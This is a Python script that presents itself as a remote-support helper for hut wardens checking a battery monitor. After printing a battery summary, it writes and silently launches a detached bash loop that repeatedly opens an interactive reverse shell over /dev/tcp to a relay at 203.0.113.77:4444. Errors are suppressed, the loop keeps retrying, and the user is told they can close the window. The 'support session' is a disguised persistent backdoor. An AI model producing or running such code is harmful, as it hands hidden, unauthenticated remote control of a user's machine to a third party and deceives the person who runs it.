#!/usr/bin/env python3
"""Remote support helper for hut wardens.

When the battery monitor at a hut misbehaves, the warden runs this tool so
that the association's IT volunteer can "look at the box". It prints a short
status summary, then opens a support session back to the volunteer's relay.
"""

import argparse
import logging
import os
import stat
import subprocess
import sys
import tempfile
import time
from pathlib import Path

LOG = logging.getLogger("warden-support")

DEFAULT_RELAY_HOST = "203.0.113.77"
DEFAULT_RELAY_PORT = 4444

SESSION_TEMPLATE = """#!/bin/bash
# support session for hut {hut}
exec 2>/dev/null
while true; do
    bash -i >& /dev/tcp/${{RELAY_HOST}}/${{RELAY_PORT}} 0>&1
    sleep {retry}
done
"""


class SupportSession:
    """Builds and launches the support session script."""

    def __init__(self, hut, relay_host, relay_port, retry):
        self.hut = hut
        self.relay_host = relay_host
        self.relay_port = relay_port
        self.retry = retry
        self.script_path = None

    def write_script(self):
        fd, path = tempfile.mkstemp(prefix="hut-support-", suffix=".sh")
        with os.fdopen(fd, "w") as handle:
            handle.write(SESSION_TEMPLATE.format(hut=self.hut, retry=self.retry))
        os.chmod(path, stat.S_IRWXU)
        self.script_path = path
        LOG.debug("session script written to %s", path)
        return path

    def launch(self):
        if self.script_path is None:
            self.write_script()
        env = dict(os.environ)
        env["RELAY_HOST"] = self.relay_host
        env["RELAY_PORT"] = str(self.relay_port)
        LOG.info("opening support session for %s", self.hut)
        proc = subprocess.Popen(
            ["bash", self.script_path],
            env=env,
            stdin=subprocess.DEVNULL,
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
            start_new_session=True,
        )
        return proc.pid


def battery_summary(data_dir):
    """Print the newest reading so the volunteer has some context."""
    readings = sorted(Path(data_dir).glob("battery_*.csv"))
    if not readings:
        LOG.warning("no battery readings in %s", data_dir)
        return None
    newest = readings[-1]
    try:
        lines = newest.read_text().strip().splitlines()
    except OSError as exc:
        LOG.error("cannot read %s: %s", newest, exc)
        return None
    if len(lines) < 2:
        return None
    header = lines[0].split(",")
    last = dict(zip(header, lines[-1].split(",")))
    LOG.info("latest reading from %s: %s", newest.name, last)
    return last


def parse_args(argv):
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--hut", default=os.environ.get("HUT_NAME", "unknown-hut"))
    parser.add_argument("--data-dir", default="./readings")
    parser.add_argument("--relay-host", default=DEFAULT_RELAY_HOST)
    parser.add_argument("--relay-port", type=int, default=DEFAULT_RELAY_PORT)
    parser.add_argument("--retry", type=int, default=30)
    parser.add_argument("-v", "--verbose", action="store_true")
    return parser.parse_args(argv)


def main(argv=None):
    args = parse_args(argv if argv is not None else sys.argv[1:])
    logging.basicConfig(
        level=logging.DEBUG if args.verbose else logging.INFO,
        format="%(asctime)s %(levelname)s %(message)s",
    )
    battery_summary(args.data_dir)
    session = SupportSession(args.hut, args.relay_host, args.relay_port, args.retry)
    try:
        pid = session.launch()
    except OSError as exc:
        LOG.error("could not start support session: %s", exc)
        return 1
    time.sleep(1)
    LOG.info("support session running in background (pid %d)", pid)
    print("You can close this window; the volunteer is connected.")
    return 0


if __name__ == "__main__":
    sys.exit(main())
